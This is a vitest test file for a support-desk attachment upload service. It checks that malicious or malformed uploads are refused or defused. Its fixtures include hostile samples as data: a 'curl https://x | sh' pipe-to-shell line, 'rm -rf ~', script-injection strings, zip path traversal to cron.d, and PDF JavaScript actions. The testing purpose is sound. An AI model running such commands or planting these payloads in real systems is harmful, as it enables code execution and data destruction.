import { randomUUID } from "node:crypto"
import { readdir } from "node:fs/promises"
import type { UploadView } from "@veridesk/contract/attachments.ts"
import { newId } from "@veridesk/contract/ids.ts"
import { sql } from "kysely"
import sharp from "sharp"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { type Browser, browser, openSite, type Site } from "./testing/site.ts"
import {
  type Bytes,
  eicar,
  movie,
  page,
  pdf,
  phonePhoto,
  picture,
  pixelBomb,
  scriptedSvg,
  zip,
} from "./testing/wrong-files.ts"

let site: Site
let he: Browser
beforeAll(async () => {
  site = await openSite()
  // Each test is another person, so that one's files don't count against the next.
})
afterAll(() => site.close())

const somebody = (language?: string) => browser(site, `customer ${randomUUID()}`, language)
const send = (name: string, bytes: Bytes): Promise<UploadView> =>
  somebody().upload({ id: newId(), name, bytes })
const refusalOf = async (name: string, bytes: Bytes) => (await send(name, bytes)).refusal?.code

describe("files that are refused, each with its reason", () => {
  const cases: [what: string, name: string, bytes: () => Bytes | Promise<Bytes>, code: string][] = [
    ["the scanner test file", "invoice.txt", () => eicar, "virus"],
    [
      "it, deep inside a log",
      "app.log",
      () => Buffer.concat([Buffer.alloc(1_048_540, "a"), eicar, Buffer.from("\n")]),
      "virus",
    ],
    [
      "it, in a picture's tail",
      "photo.png",
      async () => Buffer.concat([await picture("png"), eicar]),
      "virus",
    ],
    [
      "it, packed in a ZIP",
      "logs.zip",
      () => zip([{ name: "a.txt" }, { name: "b.txt", content: eicar }]),
      "virus",
    ],
    ["an SVG with a script", "chart.svg", () => scriptedSvg, "markup"],
    ["an SVG called a picture", "chart.png", () => scriptedSvg, "markup"],
    [
      "a page called a log, in UTF-16",
      "app.log",
      () => Buffer.from(`\ufeff${page.toString()}`, "utf16le"),
      "markup",
    ],
    ["a page after white space", "notes.txt", () => Buffer.concat([Buffer.alloc(5000, " "), page]), "markup"],
    ["a program called a picture", "photo.jpg", () => Buffer.from("MZ\x90\0\x03\0\0\0", "latin1"), "program"],
    ["a shell script", "fix.sh", () => Buffer.from("curl https://x | sh\n"), "program"],
    ["a script without an ending", "fix", () => Buffer.from("#!/bin/sh\nrm -rf ~\n"), "program"],
    [
      "an iPhone photo",
      "IMG_1.HEIC",
      () => Buffer.from("\0\0\0\x18ftypheic\0\0\0\0mif1heic", "latin1"),
      "photo-format",
    ],
    [
      "an Office file",
      "statement.docx",
      () => zip([{ name: "[Content_Types].xml" }, { name: "word/document.xml" }]),
      "type-not-allowed",
    ],
    ["bytes of no kind", "data.bin", () => Buffer.from([1, 2, 0, 3, 4, 250, 251, 0]), "type-not-allowed"],
    ["half a picture", "photo.jpg", async () => (await picture("jpeg")).subarray(0, 9000), "damaged"],
    ["a picture of 50,000 × 50,000", "map.png", () => pixelBomb(), "too-many-pixels"],
    ["a page before a PDF", "statement.pdf", () => pdf({ head: "<html><script>1</script>" }), "markup"],
    [
      "a page within a PDF's head",
      "statement.pdf",
      () => Buffer.from(`%PDF-1.4\n<html><script>1</script>${pdf().toString()}`),
      "mixed",
    ],
    ["a ZIP behind a PDF", "statement.pdf", () => Buffer.concat([pdf(), zip([{ name: "a.txt" }])]), "mixed"],
    ["half a PDF", "statement.pdf", () => pdf().subarray(0, 100), "damaged"],
    ["a ZIP behind a film", "proof.mp4", () => movie({ tail: zip([{ name: "a.txt" }]) }), "mixed"],
    ["a ZIP that bursts", "logs.zip", () => zip([{ name: "a.log", unpacked: 4e9 }]), "archive-unsafe"],
    [
      "a ZIP whose files overlap",
      "logs.zip",
      () => zip([{ name: "a.log" }, { name: "b.log", overlapping: true }]),
      "archive-unsafe",
    ],
    ["a ZIP in a ZIP", "logs.zip", () => zip([{ name: "inner.zip" }]), "archive-unsafe"],
    ["a ZIP that climbs out", "logs.zip", () => zip([{ name: "../../etc/cron.d/x" }]), "archive-unsafe"],
    [
      "a ZIP with a program",
      "logs.zip",
      () => zip([{ name: "run.txt", content: Buffer.from("MZ\x90") }]),
      "archive-program",
    ],
    [
      "a ZIP with a macro document",
      "logs.zip",
      () => zip([{ name: "报表.docm", encrypted: true }]),
      "archive-program",
    ],
  ]
  test.each(cases)("%s", async (_what, name, bytes, code) => {
    expect(await refusalOf(name, await bytes())).toBe(code)
  })

  test("0 bytes, at the door", async () => {
    const answer = await somebody().begin({ id: newId(), name: "empty.txt", size: 0 })
    expect(answer.status).toBe(422)
    expect(await answer.json()).toMatchObject({ code: "empty", message: "“empty.txt” is empty (0 bytes)." })
  })

  test("200 MB, at the door, in the reader's language", async () => {
    const answer = await somebody("zh-CN").begin({ id: newId(), name: "录屏.mp4", size: 200 * 1024 ** 2 })
    expect(answer.status).toBe(413)
    expect(await answer.json()).toMatchObject({ code: "too-large", message: "“录屏.mp4”超过了 100 MB。" })
  })

  test("30 MB that is no video, once its content is known", async () => {
    const view = await send("trace.log", Buffer.alloc(30 * 1024 ** 2, "waiting for confirmations\n"))
    expect(view.refusal).toMatchObject({ code: "too-large", message: "“trace.log” is larger than 25 MB." })
    expect(view.refusal?.next).toContain("100 MB")
  })

  test("nothing of a refused file is left on the disk", async () => {
    const view = await send("invoice.txt", eicar)
    expect(view).toMatchObject({ state: "refused", attachment: null })
    expect((await readdir(site.a.folder)).filter((name) => name.startsWith(view.id ?? "?"))).toEqual([])
  })
})

describe("files that are defused", () => {
  const bytesOf = async (who: Browser, view: UploadView): Promise<Bytes> =>
    Buffer.from(await (await who.ask(view.attachment?.url ?? "")).arrayBuffer())

  test("a photo loses its place and all else it tells, stands upright, and stays sharp and large", async () => {
    he = somebody()
    const view = await he.upload({ id: newId(), name: "IMG_0042.jpg", bytes: await phonePhoto() })
    expect(view.attachment).toMatchObject({
      width: 1600,
      height: 2400,
      facts: { location_removed: true, rebuilt: true },
    })
    const kept = await bytesOf(he, view)
    const { exif, orientation, xmp, icc, ...rest } = await sharp(kept).metadata()
    expect([exif, orientation, xmp, icc]).toEqual([undefined, undefined, undefined, undefined])
    expect(rest).toMatchObject({ format: "jpeg", width: 1600, height: 2400 })
    expect(kept.includes("Fairphone")).toBe(false)
    const thumbnail = await he.ask(view.attachment?.thumbnailUrl ?? "")
    expect(thumbnail.headers.get("content-type")).toBe("image/webp")
    const small = Buffer.from(await thumbnail.arrayBuffer())
    expect(small.length).toBeLessThanOrEqual(40 * 1024)
    expect(await sharp(small).metadata()).toMatchObject({ width: 320, height: 480 })
  })

  test("a photo of 30 megapixels comes down to what people can use, and stays upright", async () => {
    he = somebody()
    const wide = sharp({ create: { width: 6600, height: 4600, channels: 3, background: "#abc" } })
    const bytes = Buffer.from(await wide.withMetadata({ orientation: 6 }).jpeg().toBuffer())
    const { attachment } = await he.upload({ id: newId(), name: "IMG_0043.jpg", bytes })
    const [width, height] = [attachment?.width ?? 0, attachment?.height ?? 0]
    expect(height).toBeGreaterThan(5000)
    expect(width * height).toBeLessThan(24_100_000)
    expect(height / width).toBeCloseTo(6600 / 4600, 2)
  })

  test("two files in one lose the second", async () => {
    he = somebody()
    const script = Buffer.from("/*<script>alert(1)</script>*/")
    const gif = Buffer.concat([await picture("gif"), script])
    const jpeg = Buffer.concat([await picture("jpeg"), zip([{ name: "evil.jar" }])])
    for (const [name, bytes] of [
      ["a.gif", gif],
      ["b.jpg", jpeg],
    ] as const) {
      const kept = await bytesOf(he, await he.upload({ id: newId(), name, bytes }))
      expect(kept.length).toBeGreaterThan(1000)
      expect(kept.includes("<script") || kept.includes("PK\x05\x06", undefined, "latin1")).toBe(false)
    }
  })

  test("a moving GIF goes on moving", async () => {
    he = somebody()
    const frames = await Promise.all([picture("png", 210, 210), picture("png", 210, 210)])
    const bytes = Buffer.from(
      await sharp(frames, { join: { animated: true } })
        .gif()
        .toBuffer(),
    )
    const view = await he.upload({ id: newId(), name: "steps.gif", bytes })
    expect(view.attachment).toMatchObject({ width: 210, height: 210 })
    expect(await sharp(await bytesOf(he, view)).metadata()).toMatchObject({ pages: 2 })
  })

  test.each([
    ["photo.png", "photo.jpg", { renamed: true }],
    ["photo.png.exe", "photo.png.jpg", { renamed: true }],
    ["../../../etc/cron.d/照片.jpg", "照片.jpg", {}],
    ["C:\\fakepath\\con.jpg", "_con.jpg", {}],
    [`${"n".repeat(5000)}.jpg`, `${"n".repeat(196)}.jpg`, {}],
    ["photo\u202egpj.exe", "photogpj.jpg", { renamed: true }],
    ["a\0b.jpg", "ab.jpg", {}],
  ])("a JPEG that is called %j is called what it is", async (name, shown, facts) => {
    const view = await send(name, await picture("jpeg"))
    expect(view.name).toBe(shown)
    expect(view.attachment?.facts).toEqual({ ...view.attachment?.facts, ...facts })
    expect("renamed" in (view.attachment?.facts ?? {})).toBe("renamed" in facts)
  })

  test("a film loses its place and not one byte of its length", async () => {
    he = somebody()
    const bytes = movie({ brand: "qt  ", place: true })
    const view = await he.upload({ id: newId(), name: "proof.mov", bytes })
    expect(view.attachment).toMatchObject({
      mediaType: "video/quicktime",
      size: bytes.length,
      facts: { location_removed: true },
    })
    const kept = await bytesOf(he, view)
    expect(kept.includes("+52.3676")).toBe(false)
    expect(kept.subarray(-1000).equals(bytes.subarray(-1000))).toBe(true)
  })

  test("a log and a HAR lose their secrets; what the ticket is about stays", async () => {
    he = somebody()
    const log = Buffer.from(
      "13:58 deposit 2480 USDT pending\nAuthorization: Bearer abcdefghijklmnop\n何知远\n",
    )
    const view = await he.upload({ id: newId(), name: "app.conf", bytes: log })
    expect(view).toMatchObject({ name: "app.conf.txt", attachment: { facts: { secrets_masked: 1 } } })
    expect((await bytesOf(he, view)).toString()).toBe(
      "13:58 deposit 2480 USDT pending\nAuthorization: [removed]\n何知远\n",
    )

    const har = { log: { entries: [{ request: { headers: [{ name: "Cookie", value: "session=abc" }] } }] } }
    const recorded = await he.upload({
      id: newId(),
      name: "kestrel.har",
      bytes: Buffer.from(JSON.stringify(har)),
    })
    expect(recorded.attachment).toMatchObject({ mediaType: "application/json", facts: { secrets_masked: 1 } })
    expect((await bytesOf(he, recorded)).includes("session=abc")).toBe(false)
  })

  test("what can't be looked into, or may act, or wasn't scanned, says so", async () => {
    const locked = await send(
      "statement.pdf",
      pdf({ body: "/Encrypt 9 0 R /OpenAction << /S /JavaScript /JS (1) >>" }),
    )
    expect(locked.attachment?.facts).toEqual({ scanned: false, encrypted: true, active_content: true })
    const packed = await send("logs.zip", zip([{ name: "日志.log", encrypted: true }]))
    expect(packed.attachment?.facts).toEqual({ scanned: false, encrypted: true })
    const tiny = await send("icon.png", await picture("png", 64, 64))
    expect(tiny.attachment?.facts).toMatchObject({ small: true })
    const soft = sharp(await picture("png", 900, 900)).blur(20)
    const blurred = await send("paper.png", Buffer.from(await soft.png().toBuffer()))
    expect(blurred.attachment?.facts).toMatchObject({ blurred: true })
  })
})

describe("a plain form, without JavaScript", () => {
  test("keeps its good files and its texts, and tells of each bad one", async () => {
    const files = await somebody().form({ draft: newId(), body: "充值未到账" }, [
      { name: "ok.png", bytes: await picture("png") },
      { name: "virus.txt", bytes: eicar },
      { name: "chart.svg", bytes: scriptedSvg },
      { name: "empty.txt", bytes: Buffer.alloc(0) },
      { name: "huge.mp4", bytes: Buffer.alloc(200 * 1024 ** 2) },
      { name: "ok.log", bytes: Buffer.from("waiting\n") },
    ])
    const told = Object.fromEntries(files.map((file) => [file.name, file.refusal?.code ?? file.state]))
    expect(told).toEqual({
      "ok.png": "ready",
      "virus.txt": "virus",
      "chart.svg": "markup",
      "empty.txt": "empty",
      "huge.mp4": "too-large",
      "ok.log": "ready",
    })
    expect(files.every((file) => file.refusal === null || file.refusal.next.length > 10)).toBe(true)
  })

  test("fifty at once: ten are kept, forty are told why not", async () => {
    const many = Array.from({ length: 50 }, (_, n) => ({
      name: `${n}.log`,
      bytes: Buffer.from(`line ${n}\n`),
    }))
    const files = await somebody().form({ draft: newId() }, many)
    expect(files.filter((file) => file.state === "ready").map((file) => file.name)).toEqual(
      many.slice(0, 10).map((file) => file.name),
    )
    expect(files.filter((file) => file.refusal?.code === "too-many-files")).toHaveLength(40)
  })

  test("sent twice, is there once", async () => {
    const draft = newId()
    he = somebody()
    const files = [{ name: "a.log", bytes: Buffer.from("one\n") }]
    const [first, second] = [await he.form({ draft }, files), await he.form({ draft }, files)]
    expect(second[0]?.id).toBe(first[0]?.id)
    expect(second[0]?.state).toBe("ready")
    // A first try that died after its row was written is made good by the second.
    const { db } = site.connection
    await sql`update attachments set state = 'uploading', sha256 = null where id = ${first[0]?.id}`.execute(
      db,
    )
    expect(await he.form({ draft }, files)).toMatchObject([{ id: first[0]?.id, state: "ready" }])
  })
})
